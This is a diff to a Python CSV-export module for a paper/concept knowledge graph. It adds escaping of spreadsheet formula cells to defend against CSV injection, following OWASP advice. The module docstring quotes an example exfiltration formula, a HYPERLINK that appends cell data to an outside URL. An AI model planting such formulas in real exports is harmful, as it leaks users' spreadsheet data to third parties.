@@ -2,14 +2,22 @@
 
 One table a file, as `csvs-to-sqlite`, datasette and `pandas.read_csv` expect: `kg export -f csv` writes
 the links (one row per paper and concept it mentions, with the score and the evidence spans),
-`--table papers` the papers (one row each, with authors, venue, DOI and subjects), `--table concepts` the concepts. Both come from one streamed parse of the graph file; no SPARQL store
-is built. Columns are in `LINK_COLUMNS`, `PAPER_COLUMNS` and `CONCEPT_COLUMNS` (docs/querying.md describes them).
+`--table papers` the papers (one row each, with authors, venue, DOI and subjects), `--table concepts` the concepts.
+All come from one streamed parse of the graph file; no SPARQL store
+is built. Columns are in `LINK_COLUMNS`, `PAPER_COLUMNS` and `CONCEPT_COLUMNS` (docs/serve.md describes them).
+
+Titles, venues and labels come from whoever wrote the paper list or the scheme, and a spreadsheet evaluates
+a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula:
+`=HYPERLINK("http://…?"&A1,"click")` sends the sheet's data away when clicked. Such a cell is written with a
+leading `'` (OWASP's advice on CSV injection), which a spreadsheet shows as text; a cell that is a number
+(a negative score) stays the number it is.
 """
 
 from __future__ import annotations
 
 import csv
 import io
+import re
 from collections import defaultdict
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -23,6 +31,15 @@ TABLES = ("links", "papers", "concepts")
 LINK_COLUMNS = ("paper_id", "paper", "title", "year", "venue", "concept", "label", "score", "subject", "mentions", "evidence")
 PAPER_COLUMNS = ("paper_id", "paper", "title", "year", "venue", "authors", "doi", "subjects", "abstract")
 CONCEPT_COLUMNS = ("concept", "label", "papers", "mentioned_in", "mentions", "broader")
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet may evaluate at the start of a cell (OWASP)
+NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")
+
+
+def cell(value: object) -> object:
+    """A value as a spreadsheet should read it: text it would evaluate gets a leading `'`; numbers are left alone."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(value):
+        return "'" + value
+    return value
 
 
 @dataclass
@@ -145,31 +162,35 @@ def write_table(graph: str | Path, stream: IO[bytes], table: str = "links") -> i
     r = _read(graph)
     links = _links(r)
     text = io.TextIOWrapper(stream, encoding="utf-8", newline="")
-    out = csv.writer(text)
+    writer = csv.writer(text)
     rows = 0
+
+    def write(values: tuple) -> None:
+        writer.writerow([cell(v) for v in values])
+
     if table == "links":
-        out.writerow(LINK_COLUMNS)
+        write(LINK_COLUMNS)
         order = {iri: i for i, iri in enumerate(r.papers)}
         for (paper_iri, concept), (score, spans) in sorted(links.items(), key=lambda kv: (order[kv[0][0]], -float(kv[1][0] or 0), kv[0][1])):
             p = r.papers[paper_iri]
             spans.sort()
             evidence = " | ".join(f"{where}[{a}:{b}] {exact}" for where, a, b, exact in spans)
-            out.writerow((p.identifier, paper_iri, p.title or r.names.get(paper_iri, ""), p.year, r.names.get(p.venue, p.venue), concept,
+            write((p.identifier, paper_iri, p.title or r.names.get(paper_iri, ""), p.year, r.names.get(p.venue, p.venue), concept,
                           r.labels.get(concept, ""), score, int((paper_iri, concept) in r.subjects), len(spans), evidence))
             rows += 1
     elif table == "papers":
-        out.writerow(PAPER_COLUMNS)
+        write(PAPER_COLUMNS)
         subjects: dict[str, list[str]] = defaultdict(list)
         for paper_iri, concept in sorted(r.subjects):
             subjects[paper_iri].append(r.labels.get(concept, concept))
         for paper_iri, p in r.papers.items():
             if paper_iri not in r.typed:
                 continue
-            out.writerow((p.identifier, paper_iri, p.title or r.names.get(paper_iri, ""), p.year, r.names.get(p.venue, p.venue),
-                          "; ".join(r.names.get(a, a) for a in p.creators), p.doi, "; ".join(sorted(subjects[paper_iri])), p.abstract))
+            write((p.identifier, paper_iri, p.title or r.names.get(paper_iri, ""), p.year, r.names.get(p.venue, p.venue),
+                   "; ".join(r.names.get(a, a) for a in p.creators), p.doi, "; ".join(sorted(subjects[paper_iri])), p.abstract))
             rows += 1
     else:
-        out.writerow(CONCEPT_COLUMNS)
+        write(CONCEPT_COLUMNS)
         papers: dict[str, int] = defaultdict(int)
         for paper_iri, concept in r.subjects:
             if paper_iri in r.papers:
@@ -180,7 +201,7 @@ def write_table(graph: str | Path, stream: IO[bytes], table: str = "links") -> i
             mentioned[concept] += 1
             mentions[concept] += len(spans)
         for concept in sorted(r.concepts, key=lambda c: (-papers[c], -mentioned[c], r.labels.get(c, ""), c)):
-            out.writerow((concept, r.labels.get(concept, ""), papers[concept], mentioned[concept], mentions[concept],
+            write((concept, r.labels.get(concept, ""), papers[concept], mentioned[concept], mentions[concept],
                           " ".join(sorted(r.broader.get(concept, ())))))
             rows += 1
     text.flush()
